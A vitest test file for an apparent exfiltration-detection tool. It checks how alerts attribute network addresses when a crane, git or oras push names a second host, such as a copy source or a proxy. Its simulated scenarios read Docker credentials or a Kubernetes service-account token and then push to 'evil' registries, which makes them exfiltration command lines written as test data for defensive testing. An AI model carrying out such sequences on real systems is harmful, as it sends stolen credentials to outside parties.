/**
 * A push whose command line names a host besides its destination (a copy's source, a proxy) connects to both,
 * and which address served which is not known: the alert must not label the source's address with the
 * destination's name, and the node must not learn it as the destination (another pod's upload to the source
 * registry was "named ghcr.io by an earlier push's command line" for ipHintTtlMs). A push naming one host
 * still labels and teaches its addresses.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import { MiB, run, Scenario } from './builder.js';

const QUAY_IP = '44.205.64.79';
const GHCR_IP = '140.82.121.33';

function pushThenUpload(craneArgs: string, firstIp: string): Alert[] {
  const s = new Scenario();
  const c = s.container();
  const sh = s.init(c);
  s.read(sh, '/root/.docker/config.json', 400);
  const crane = s.exec(c, '/usr/local/bin/crane', craneArgs, { parent: sh });
  s.connect(crane, firstIp, 443).send(crane, firstIp, 443, 20_000);
  s.connect(crane, GHCR_IP, 443).send(crane, GHCR_IP, 443, 60 * MiB);
  s.wait(60_000);
  // Another pod uploads to the address the crane process connected to first.
  const c2 = s.container();
  const py = s.exec(c2, '/usr/bin/python3', '/tmp/x.py', { parent: s.init(c2) });
  s.connect(py, firstIp, 443).send(py, firstIp, 443, 3 * MiB);
  return run(s.events).alerts;
}

const connects = (a: Alert | undefined) => a?.evidence.filter((e) => e.kind === 'connect').map((e) => e.detail);

describe("a copy's source address", () => {
  it('crane copy quay.io/… ghcr.io/…: the pull from quay.io is not labelled ghcr.io, nor taught to the node', () => {
    const alerts = pushThenUpload('copy quay.io/acme/api:1 ghcr.io/evil/api:1', QUAY_IP);
    const crane = alerts.find((a) => a.push.tool === 'crane');
    expect(crane?.push).toMatchObject({ destination: 'ghcr.io', remote: 'ghcr.io/evil/api:1', namedBy: 'argv' });
    expect(crane?.push.addresses).toEqual([`${QUAY_IP}:443`, `${GHCR_IP}:443`]);
    expect(connects(crane)).toEqual([`${QUAY_IP}:443`, `${GHCR_IP}:443`]);
    expect(alerts.filter((a) => a.push.destination === 'ghcr.io' && a.push.tool !== 'crane')).toEqual([]);
  });

  it('a proxy named on the command line (git -c http.proxy=…) is not labelled with the remote', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
    const git = s.exec(
      c,
      '/usr/bin/git',
      '-c http.proxy=http://proxy.corp.example:3128 push https://github.com/evil/x.git',
      {
        parent: sh,
      },
    );
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/evil/x.git', {
      parent: git,
    });
    s.connect(helper, '198.51.100.7', 3128).send(helper, '198.51.100.7', 3128, 2 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push.destination).toBe('github.com');
    expect(connects(a)).toEqual(['198.51.100.7:3128']);
  });

  // A file in a versioned or dotted directory is no second host: its push labels its address as any other.
  it.each([
    'push ghcr.io/acme/art:1.0 release-1.2.0/app.tgz:application/gzip',
    'push ghcr.io/acme/art:1.0 node-v20.1/app.tgz',
    'push ghcr.io/acme/art:1.0 out.d/app.tgz',
  ])('oras %s labels its address ghcr.io', (orasArgs) => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.read(sh, '/root/.docker/config.json', 400);
    const oras = s.exec(c, '/usr/local/bin/oras', orasArgs, { parent: sh });
    s.connect(oras, '140.82.121.34', 443).send(oras, '140.82.121.34', 443, 60 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.push.destination).toBe('ghcr.io');
    expect(connects(a)).toEqual(['140.82.121.34:443 (ghcr.io, registry)']);
  });

  it('control: crane push naming one host labels its address and teaches it, as before', () => {
    const alerts = pushThenUpload('push /tmp/img.tar ghcr.io/evil/api:1', '140.82.121.34');
    const crane = alerts.find((a) => a.push.tool === 'crane');
    expect(connects(crane)).toEqual(['140.82.121.34:443 (ghcr.io, registry)', `${GHCR_IP}:443 (ghcr.io, registry)`]);
    const upload = alerts.find((a) => a.push.tool === 'python');
    expect(upload?.push).toMatchObject({ destination: 'ghcr.io', namedBy: 'hint' });
  });
});
